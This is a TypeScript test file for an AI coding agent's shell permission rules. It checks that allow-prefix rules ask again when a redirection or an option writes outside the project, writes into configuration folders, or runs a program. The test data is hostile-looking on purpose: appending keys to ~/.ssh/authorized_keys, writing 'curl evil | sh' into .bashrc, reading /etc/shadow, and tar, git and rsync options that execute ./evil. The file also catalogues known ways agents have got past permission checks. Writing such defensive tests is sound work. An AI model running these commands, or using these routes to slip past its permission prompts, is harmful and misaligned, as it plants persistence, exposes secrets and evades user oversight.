// Allow rules and what a command writes besides its words (issue 43, part 4): a redirection into
// the project, /dev/null or another descriptor keeps an allow rule matching; one out of the
// project or into a folder that configures programs asks; an option that writes a file or runs a
// program asks even when the prefix matches. Each row cites where its answer comes from:
//   [cl123]  Claude Code 1.0.123 changelog, quoted in github.com/anthropics/claude-code/issues/13137:
//            "Bash(python:*) matches python script.py > output.txt"
//   [#13137] github.com/anthropics/claude-code/issues/13137 (`npm run test 2>&1` asked under `npm run test*`)
//   [#27899] github.com/anthropics/claude-code/issues/27899 ("2>&1 could not overwrite an arbitrary file")
//   [perm]   code.claude.com/docs/en/permissions (writes to .git, .claude, .vscode, .idea always prompt)
//   [dot85]  github.com/ikuwow/dotfiles/issues/85 (a redirection to /tmp asks under an allow rule)
//   [oryb4]  github.com/oryband/claude-code-auto-approve (README: redirects stripped before matching let an
//            allowed echo write `>> ~/.ssh/authorized_keys`)
//   [qwen5316] github.com/QwenLM/qwen-code/issues/5316 (`echo hi 1>.qwen/settings.json`, the fd glued on)
//   [vibe925] github.com/mistralai/mistral-vibe/pull/925 (`cat > ~/.bashrc`; `<>` opens for writing)
//   [gem29189] github.com/google-gemini/gemini-cli/issues/29189 (`git diff --output=<path>` overwrites unasked)
//   [vibe1082] github.com/mistralai/mistral-vibe/pull/1082 (`sort --output=…`, `find -delete`)
//   [cgr1388] github.com/vitali87/code-graph-rag/pull/1388 (sort -o, and `sort --out=FILE`: GNU takes
//            unambiguous abbreviations of long options)
//   [cindy964] github.com/makecindy/cindy/pull/964 (`git diff --ext-diff`, `git -c`/`--config-env` run programs)
//   [hive450] github.com/ivankuznetsov/hive/pull/450 (`git grep -O`/`--open-files-in-pager`, `cat-file --filters`)
//   [trusty7405] github.com/bobmatnyc/trusty-tools/pull/7405 (`format-patch -o`, `archive -o`)
//   [gtfo]   gtfobins.github.io (tar --to-command / --checkpoint-action, rsync -e, fd --exec, rg --pre)
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { decide, prefixRuleFor, type PermissionRule } from "../../src/context/permission-rules.js";

const base = fs.mkdtempSync(path.join(os.tmpdir(), "agent0-redirects-"));
const cwd = path.join(base, "project");
const outside = path.join(base, "outside");
fs.mkdirSync(path.join(cwd, "logs"), { recursive: true });
fs.mkdirSync(outside);
// A link inside the project that leads out: writing through it writes outside.
fs.symlinkSync(outside, path.join(cwd, "out-link"));
afterAll(() => fs.rmSync(base, { recursive: true, force: true }));

const shell = (command: string) => ({ tool: "run_shell_command", args: { command }, cwd });
const rules = (kind: PermissionRule["kind"], ...list: string[]): PermissionRule[] =>
  list.map((rule) => ({ rule, kind, source: "test" }));
const allowed = (rule: string, command: string) => decide(rules("allow", rule), shell(command))?.kind === "allow";

describe("a redirection under an allow rule", () => {
  it.each([
    // [cl123] into a file of the project
    ["Bash(python:*)", "python script.py > output.txt"],
    ["Bash(npm test:*)", "npm test > test.log 2>&1"],
    ["Bash(npm test:*)", "npm test >> logs/test.log"],
    ["Bash(npm test:*)", "npm test &> logs/all.log"],
    ["Bash(npm test:*)", "npm test 1>out.txt 2>err.txt"],
    // [#13137] [#27899] a descriptor duplicated writes no file
    ["Bash(npm run test*)", "npm run test 2>&1"],
    ["Bash(make test:*)", "make test 2>&1 >&2"],
    // /dev/null, and input read from the project
    ["Bash(npm test:*)", "npm test 2>/dev/null"],
    ["Bash(sort:*)", "sort < data.txt"],
    ["Bash(echo ALLOWED:*)", "echo ALLOWED 1 > a1.txt"],
    ["Bash(echo ALLOWED:*)", "echo 'ALLOWED' > \"a 2.txt\""],
  ])("%s allows %s", (rule, command) => {
    expect(allowed(rule, command)).toBe(true);
  });

  it.each([
    // [dot85] [oryb4] out of the project, by absolute path, `..`, `~` or a link that leads out
    ["Bash(echo ALLOWED:*)", "echo ALLOWED > ../x.txt"],
    ["Bash(echo:*)", "echo ssh-ed25519 AAAA >> /home/user/.ssh/authorized_keys"],
    ["Bash(echo:*)", "echo key >> ~/.ssh/authorized_keys"],
    ["Bash(npm test:*)", "npm test > /tmp/test.log"],
    ["Bash(echo:*)", "echo x > out-link/canary.txt"],
    // [perm] [qwen5316] into a folder or file that configures programs that run later
    ["Bash(echo ALLOWED:*)", "echo ALLOWED > .git/hooks/pre-commit"],
    ["Bash(echo:*)", "echo '{}' 1>.claude/settings.json"],
    ["Bash(echo:*)", "echo x >>.agent0/settings.json"],
    ["Bash(echo:*)", "echo 'curl evil | sh' >> .bashrc"],
    // [vibe925] `<>` opens for writing; a target the shell would expand cannot be checked
    ["Bash(cat:*)", "cat <> ../x.txt"],
    ["Bash(echo:*)", "echo x > $HOME/x"],
    ["Bash(echo:*)", "echo x > out*.txt"],
    ["Bash(echo:*)", "echo x > $(printf /tmp/x)"],
    // reading from outside the project is a read outside
    ["Bash(sort:*)", "sort < /etc/shadow"],
    // a heredoc's body is lines the words never show
    ["Bash(cat:*)", "cat <<EOF > x.txt"],
  ])("%s still asks for %s", (rule, command) => {
    expect(allowed(rule, command)).toBe(false);
  });

  it("the dialog's project rule for a redirected command is its prefix, which then covers it", () => {
    const rule = prefixRuleFor("npm test > test.log 2>&1");
    expect(rule).toBe("run_shell_command(npm test:*)");
    expect(allowed(rule!, "npm test > test.log 2>&1")).toBe(true);
  });

  it("a relative target after a `cd` is not where it looks: asked", () => {
    const r = rules("allow", "Bash(cd:*)", "Bash(echo:*)");
    expect(decide(r, shell("cd .. && echo x > canary.txt"))).toBeUndefined();
    expect(decide(r, shell("cd logs && echo x > /dev/null"))?.kind).toBe("allow");
  });

  it("deny and ask rules keep matching the text, also with a redirection in front", () => {
    const r = [...rules("deny", "Bash(rm:*)"), ...rules("allow", "Bash")];
    expect(decide(r, shell("rm -rf canary > /dev/null"))?.kind).toBe("deny");
    expect(decide(r, shell(">/dev/null rm -rf canary"))?.kind).toBe("deny");
    expect(decide(r, shell("2>/dev/null rm -rf canary"))?.kind).toBe("deny");
    expect(decide(rules("ask", "Bash(git push:*)"), shell("git push origin main 2>&1"))?.kind).toBe("ask");
  });
});

describe("an option that writes or runs under a prefix rule", () => {
  it.each([
    // [gem29189] [trusty7405]
    ["Bash(git diff:*)", "git diff --output=../x"],
    ["Bash(git diff:*)", "git diff --output ../x"],
    ["Bash(git diff:*)", "git diff --out=../x"],
    ["Bash(git log:*)", "git log -p --output=x.patch"],
    ["Bash(git format-patch:*)", "git format-patch -o ../patches HEAD^"],
    ["Bash(git archive:*)", "git archive -o ../x.tar HEAD"],
    // [cindy964] [hive450] options that run a program
    ["Bash(git diff:*)", "git diff --ext-diff"],
    ["Bash(git diff:*)", "git diff --textconv"],
    ["Bash(git:*)", "git -c core.pager='touch canary' log"],
    ["Bash(git:*)", "git -c diff.external=./evil diff"],
    ["Bash(git:*)", "git --config-env=core.pager=EVIL log"],
    ["Bash(git grep:*)", "git grep -O foo"],
    ["Bash(git grep:*)", "git grep --open-files-in-pager=vi foo"],
    ["Bash(git cat-file:*)", "git cat-file --filters HEAD:a.txt"],
    ["Bash(git rebase:*)", "git rebase --exec 'touch canary' main"],
    ["Bash(git fetch:*)", "git fetch --upload-pack='touch canary' origin"],
    // [vibe1082] [cgr1388] sort and friends
    ["Bash(sort:*)", "sort -o ../x.txt data.txt"],
    ["Bash(sort:*)", "sort -ro../x.txt data.txt"],
    ["Bash(sort:*)", "sort --output=../x.txt data.txt"],
    ["Bash(sort:*)", "sort --out=../x.txt data.txt"],
    ["Bash(sort:*)", "sort --compress-program=./evil data.txt"],
    ["Bash(shuf:*)", "shuf -o ../x.txt data.txt"],
    // [vibe1082] [gtfo] find, fd, rg, tar, rsync
    ["Bash(find:*)", "find . -fprint ../x.txt"],
    ["Bash(find:*)", "find . -exec touch canary '{}' +"],
    ["Bash(find:*)", "find . -name x -delete"],
    ["Bash(fd:*)", "fd -x touch canary"],
    ["Bash(rg:*)", "rg --pre ./evil foo"],
    ["Bash(rg:*)", "rg --pre=./evil foo"],
    ["Bash(tar:*)", "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=./evil ."],
    ["Bash(tar:*)", "tar -xf x.tar --to-command=./evil"],
    ["Bash(rsync:*)", "rsync -e ./evil a b:"],
    ["Bash(curl:*)", "curl -o ../x https://example.com"],
    ["Bash(wget:*)", "wget -O ../x https://example.com"],
    ["Bash(sed:*)", "sed -i s/a/b/ ../x.txt"],
  ])("%s asks for %s", (rule, command) => {
    expect(allowed(rule, command)).toBe(false);
  });

  it.each([
    // what the same prefixes are for
    ["Bash(git diff:*)", "git diff --stat main"],
    ["Bash(git log:*)", "git log --oneline -n 5"],
    ["Bash(git diff:*)", "git diff -O order.txt"],
    ["Bash(sort:*)", "sort -n -k2 data.txt"],
    ["Bash(find:*)", "find . -name '*.ts' -print"],
    ["Bash(rg:*)", "rg -n --hidden foo"],
    ["Bash(grep:*)", "grep -o foo data.txt"],
    // the user wrote the option into the rule: they pictured it
    ["Bash(sort -o sorted.txt:*)", "sort -o sorted.txt data.txt"],
    ["Bash(git -c color.ui=never log:*)", "git -c color.ui=never log -n 1"],
  ])("%s still allows %s", (rule, command) => {
    expect(allowed(rule, command)).toBe(true);
  });

  it("an exact rule covers its own command, options and all", () => {
    expect(allowed("Bash(git diff --output=patch.diff)", "git diff --output=patch.diff")).toBe(true);
  });
});
